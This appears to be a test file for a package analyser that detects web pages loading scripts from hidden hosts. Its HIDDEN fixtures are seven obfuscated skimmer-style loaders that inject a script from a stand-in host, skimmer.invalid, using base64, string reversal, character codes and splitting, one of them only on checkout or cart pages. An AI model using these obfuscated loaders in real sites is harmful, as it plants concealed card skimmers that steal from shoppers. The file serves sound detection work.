import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { flowsOf } from './sent.js';

const ENCODED = Buffer.from('https://skimmer.invalid/t.js').toString('base64');
const MADE = `const e = document.createElement('script');`;

/** The page is to load a script from a host that nobody finds in the code. */
const HIDDEN: readonly string[] = [
  `${MADE} e.src = atob('${ENCODED}'); document.head.appendChild(e);`,
  `if (/checkout|cart/.test(location.pathname)) { ${MADE} e.async = 1; e.setAttribute('src', Buffer.from('${ENCODED}', 'base64').toString()); document.body.append(e); }`,
  `(function (d) { var s = d.createElement('script'); s.src = 'https://skim' + 'mer.in' + 'valid/t.js'; d.getElementsByTagName('head')[0].appendChild(s); })(document);`,
  `${MADE} e.src = 'sj.t/dilavni.remmiks//:sptth'.split('').reverse().join(''); document.head.append(e);`,
  `${MADE} e.src = String.fromCharCode(...[47, 47, 115, 107, 105, 109, 109, 101, 114, 46, 105, 110, 118, 97, 108, 105, 100, 47, 116]); document.head.append(e);`,
  `document.write('<scr' + 'ipt src="' + atob('${ENCODED}') + '"></scr' + 'ipt>');`,
  `${MADE} const host = ['mer', 'skim'].reverse().join('') + '.invalid'; e.src = 'https://' + host + '/t.js'; document.head.append(e);`,
];

/** Loaders of maps, payments and statistics. */
const HONEST: readonly string[] = [
  `${MADE} e.src = 'https://statistics.example/t.js'; document.head.appendChild(e);`,
  `if (/checkout/.test(location.pathname)) { ${MADE} e.src = 'https://js.payments.example/v3'; document.head.append(e); }`,
  `const host = 'statistics'; ${MADE} e.src = (location.protocol === 'https:' ? 'https://ssl' : 'http://www') + '.' + host + '.example/t.js'; document.head.append(e);`,
  `exports.load = ({ key, base = 'https://maps.example/api' }) => { ${MADE} e.src = base + '?' + new URLSearchParams({ key }); document.head.append(e); };`,
  `${MADE} e.src = 'https://statistics.example/t.js?id=' + atob('aWRlbnRpZmllci0wMTIzNDU='); document.head.append(e);`,
  `${MADE} e.src = URL.createObjectURL(new Blob([atob('Y29uc29sZS5sb2coMSk7')])); document.head.append(e);`,
  `${MADE} e.src = 'data:text/javascript;base64,Y29uc29sZS5sb2coMSk7'; document.head.append(e);`,
];

const scripts = (flows: readonly string[]): readonly string[] => flows.filter((one) => one.startsWith('downloaded'));

describe('scripts of a page', () => {
  for (const code of HIDDEN)
    it(`come from a host that is hidden: ${code}`, () =>
      assert.deepEqual([...new Set(scripts(flowsOf(code)))], ['downloaded>page-script@skimmer.invalid']));
  for (const code of HONEST)
    it(`come from where everybody can read: ${code}`, () => assert.deepEqual(scripts(flowsOf(code)), []));

  it('come from a host that another file names', () => {
    const { flows } = analysePackage(
      packageOf({
        'index.js': `const { NAME } = require('./names'); ${MADE} e.src = 'https://' + NAME + '.example/t.js'; document.head.append(e);`,
        'names.js': `exports.NAME = 'statistics';`,
      }),
    );
    assert.deepEqual(flows, []);
  });
});
